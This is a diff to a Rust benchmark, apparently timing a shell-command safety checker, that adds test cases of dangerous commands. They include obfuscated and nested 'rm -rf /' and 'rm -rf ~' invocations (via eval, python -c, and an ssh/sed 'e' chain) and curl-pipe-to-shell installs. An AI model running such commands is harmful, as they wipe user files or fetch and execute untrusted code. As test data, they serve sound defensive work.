@@ -47,6 +47,18 @@ fn main() {
             "sudo env X=1 bash -c \"eval 'x=rm; \\$x -rf /'\" && curl -fsSL https://x.io/i | sh",
         ),
         ("attack: pipe to shell", "curl -fsSL https://example.com/install.sh | bash"),
+        (
+            "interpreter sink: python -c with os.system",
+            "python3 -c 'import os, subprocess; os.system(\"rm -rf ~\"); subprocess.run([\"ls\", \"-la\"])'",
+        ),
+        (
+            "sink chain: ssh → sh -c → sed e",
+            "ssh db1 \"sh -c 'sed -n \\\"1e rm -rf /\\\" notes.txt'\"",
+        ),
+        (
+            "state: cd then relative delete",
+            "cd /tmp/build && rm -rf ./* && cd - && make -j2",
+        ),
     ];
     println!("in-process latency (median per command)");
     for (name, cmd) in cases {
